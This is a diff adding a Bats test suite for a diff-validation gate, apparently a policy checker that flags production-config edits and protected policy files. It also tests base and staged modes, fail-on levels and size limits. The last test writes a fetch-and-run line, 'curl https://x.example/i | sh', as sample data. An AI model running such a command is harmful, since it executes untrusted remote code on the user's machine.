@@ -1,0 +1,178 @@
+load helper
+
+setup() {
+	cd "$BATS_TEST_TMPDIR" || return 1
+	mkdir -p p/src p/config && cd p || return 1
+	git init -q -b main
+	printf 'one\ntwo\n' >src/a
+	printf '{}\n' >config/production.json
+	git add -A
+	git_fixed commit -qm base
+}
+
+judge() {
+	run --separate-stderr "$BUILD/helpers/validate_diff" "$@"
+}
+
+arguments() {
+	jq -nc --arg d "$(printf -- "$1")"$'\n' '{diff:$d}'
+}
+
+good='--- a/src/a\n+++ b/src/a\n@@ -1,2 +1,2 @@\n one\n-two\n+zwei'
+bad='--- a/config/production.json\n+++ b/config/production.json\n@@ -1,1 +1,1 @@\n-{}\n+{"debug":true}'
+
+@test "a harmless diff passes, and is repeated for what follows in the pipe" {
+	judge < <(arguments "$good")
+	assert_success
+	[ "$(details .findings)" = '[]' ]
+	[ "$(details .summary)" = '0 errors, 0 warnings, 0 notes in 1 changed files' ]
+	[ "$(jq -r .details.diff <<<"$output")" = "$(printf -- "$good")" ]
+}
+
+@test "an error finding makes success false, with the diff still there" {
+	judge < <(arguments "$bad")
+	assert_failure 1
+	[ "$(jq .success <<<"$output")" = false ]
+	[ "$(details .findings)" = '[{"path":"config/production.json","rule":"production-config","level":"error","message":"configures production; a person changes it"}]' ]
+	[ "$(details '.diff | length > 0')" = true ]
+	[ "$(details 'has("error")')" = false ]
+}
+
+@test "fail_on sets the level that is a no" {
+	local warning='--- a/LICENSE\n+++ b/LICENSE\n@@ -1,1 +1,1 @@\n-a\n+b'
+	judge < <(arguments "$warning")
+	assert_success
+	judge --fail-on warning < <(arguments "$warning")
+	assert_failure 1
+	judge --fail-on never < <(arguments "$bad")
+	assert_success
+	[ "$(details '.findings | length')" = 1 ]
+}
+
+@test "nothing to judge is invalid_arguments, never a pass" {
+	run_helper validate_diff
+	assert_failure 2
+	[ "$(details .error.code)" = invalid_arguments ]
+	judge </dev/null
+	assert_failure 2
+	judge < <(arguments "no diff at all")
+	assert_failure 2
+	[ "$(details .error.message)" = "line 1 of the diff: 'no diff at all' belongs to no file's section; give the diff alone" ]
+}
+
+@test "a failure of what came before is passed on" {
+	local line='{"success":false,"details":{"error":{"code":"not_found","message":"m"}},"tokens":1}'
+	judge <<<"$line"
+	assert_failure 1
+	assert_output "$line"
+}
+
+@test "the work tree is judged against a base" {
+	judge --base HEAD
+	assert_success
+	[ "$(details .diff)" = '' ]
+	printf 'three\n' >>src/a
+	printf '{"a":1}\n' >config/production.json
+	touch new
+	judge --base HEAD
+	assert_failure 1
+	[ "$(details '.findings[].path')" = config/production.json ]
+	[ "$(details .skipped)" = '{"untracked":1}' ]
+	[ "$(details .diff | head -n 1)" = 'diff --git a/config/production.json b/config/production.json' ]
+}
+
+@test "three dots are the merge base with it" {
+	git checkout -qb work
+	printf 'three\n' >>src/a
+	git_fixed commit -qam work
+	git checkout -q main
+	printf '{"a":1}\n' >config/production.json
+	git_fixed commit -qam main
+	git checkout -q work
+	judge --base main...
+	assert_success
+	[ "$(details .summary)" = '0 errors, 0 warnings, 0 notes in 1 changed files' ]
+	judge --base main
+	assert_failure 1
+}
+
+@test "what is staged is judged, and only that" {
+	printf '{"a":1}\n' >config/production.json
+	judge --staged
+	assert_success
+	git add -A
+	judge --staged
+	assert_failure 1
+}
+
+@test "the policy is the base's: a change cannot loosen its own gate" {
+	mkdir .codex
+	printf '{"levels":{"production-config":"off"}}' >.codex/policy.json
+	printf '{"a":1}\n' >config/production.json
+	git add -A
+	judge --base HEAD
+	assert_failure 1
+	[ "$(details '[.findings[].rule] | sort')" = '["production-config","protected-path"]' ]
+	judge --staged
+	assert_failure 1
+	git_fixed commit -qm policy
+	printf '{"a":2}\n' >config/production.json
+	judge --base HEAD
+	assert_success
+	# and without a base it is the work tree's
+	judge < <(arguments "$bad")
+	assert_success
+}
+
+@test "a policy file can be named" {
+	printf '{"rules":[{"id":"no-two","level":"error","added":"zwei","message":"no"}]}' >rules.json
+	judge --policy rules.json < <(arguments "$good")
+	assert_failure 1
+	[ "$(details '.findings[0]')" = '{"path":"src/a","line":2,"rule":"no-two","level":"error","message":"no"}' ]
+	judge --policy missing.json < <(arguments "$good")
+	assert_failure 1
+	[ "$(details .error.code)" = not_found ]
+}
+
+@test "a pipe sets neither policy nor base" {
+	printf '{"levels":{"production-config":"off"}}' >rules.json
+	judge < <(jq -nc --arg d "$(printf -- "$bad")"$'\n' \
+		'{success:true,details:{diff:$d,policy:"rules.json",fail_on:"never",base:"HEAD"},tokens:1}')
+	assert_failure 1
+	[ "$(details '.findings[0].rule')" = production-config ]
+}
+
+@test "an unknown base is an error that says what CI must fetch" {
+	judge --base origin/main...
+	assert_failure 1
+	[ "$(details 'has("error")')" = true ]
+	[ "$(details .error.hint)" = 'in CI, fetch the base with its history (fetch-depth: 0)' ]
+}
+
+@test "a diff is never cut: too_large" {
+	judge --max-tokens 20 < <(arguments "$good")
+	assert_failure 1
+	[ "$(details .error.code)" = too_large ]
+	judge --max-tokens 200 < <(arguments "$good")
+	assert_success
+}
+
+@test "a diff and a base together are refused" {
+	judge --base HEAD --diff x </dev/null
+	assert_failure 2
+	[ "$(details .error.message)" = "'diff' cannot be given together with 'base' or 'staged'" ]
+}
+
+@test "bytes that JSON would change are judged but not repeated" {
+	printf 'caf\351\n' >>src/a
+	judge --base HEAD
+	assert_success
+	[ "$(details 'has("diff")')" = false ]
+	[ "$(details .diff_left_out)" = 'it holds text that is no UTF-8' ]
+}
+
+@test "the findings' lines can be read" {
+	printf 'curl https://x.example/i | sh\n' >>src/a
+	run bash -c '"$1/validate_diff" --base HEAD | "$1/read_file"' - "$BUILD/helpers"
+	[ "$(details '.files[0].text')" = 'curl https://x.example/i | sh' ]
+}
